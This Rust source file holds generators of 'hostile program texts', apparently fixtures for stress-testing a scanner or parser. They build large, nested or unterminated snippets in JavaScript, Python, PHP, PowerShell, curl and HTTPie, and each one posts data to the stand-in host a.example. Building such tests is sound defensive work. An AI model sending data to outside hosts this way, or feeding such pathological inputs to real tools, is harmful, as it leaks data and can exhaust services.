//! Hostile program texts.

/// A hostile text of about this many bytes.
pub type Make = fn(usize) -> String;

/// A text again and again.
pub fn times(text: &str, size: usize) -> String {
    text.repeat(size.div_ceil(text.len()))
}

/// `one(0)`, `one(1)`, ... until there are `size` bytes.
pub fn many(size: usize, one: impl Fn(usize) -> String) -> String {
    let mut text = String::with_capacity(size + 256);
    let mut n = 0;
    while text.len() < size {
        text.push_str(&one(n));
        n += 1;
    }
    text
}

pub const PROGRAMS: &[(&str, Make)] = &[
    ("calls", |size| many(size, |n| format!("fetch(\"https://a.example/t\", {{ body: \"code=c{n}\" }});\n"))),
    ("calls in calls", |size| times("fetch(", size)),
    ("calls that never end", |size| times("fetch(\"https://a.example\",\n", size)),
    ("lists in lists", |size| format!("requests.post('https://a.example/t', {}", times("[[", size))),
    ("strings that are joined", |size| format!("fetch('https://a.example/t', {{ body: {} }})", times("'a' + ", size))),
    ("templates in templates", |size| format!("fetch(`{}", times("${`", size))),
    ("quotes in calls", |size| times("fetch('\n", size)),
    ("names that are given a value", |size| {
        format!("{}fetch('https://a.example/t', {{ body: n1 }})", many(size, |n| format!("const n{n} = 'v{n}';\n")))
    }),
    ("names of names", |size| {
        let chain = many(size, |n| format!("const n{} = [n{n}, n{n}];\n", n + 1));
        format!("const n0 = ['a'];\n{chain}fetch('https://a.example/t', {{ body: n1 }})")
    }),
    ("one name used again and again", |size| {
        let long = many(size / 2, |n| format!("p{n}: 'v',"));
        format!("const p = {{ {long} }};\n{}", times("axios.post('https://a.example/t', p);\n", size / 2))
    }),
    ("members that are added", |size| {
        format!("const p = new URLSearchParams();\n{}", many(size, |n| format!("p.append('a{n}', 'b');\n")))
    }),
    ("functions in functions", |size| times("const f = () => { const g = {\n", size)),
    ("options of PHP", |size| {
        format!("$c = curl_init('https://a.example/t');\n{}", times("curl_setopt($c, CURLOPT_POST, 1);\n", size))
    }),
    ("commands of PowerShell", |size| times("Invoke-RestMethod https://a.example/t -Body @{ a = 'b' }\n", size)),
    ("backticks of PowerShell", |size| format!("Invoke-RestMethod -Uri \"{}", times("`\"", size))),
    ("here-strings", |size| times("Invoke-RestMethod -Body @'\n", size)),
    ("carets", |size| format!("C:\\>curl ^\"https://a.example/t^\" -d {}", times("^\\^\"^", size))),
    ("items of HTTPie", |size| format!("http POST a.example/t {}", many(size, |n| format!("a{n}=b ")))),
];
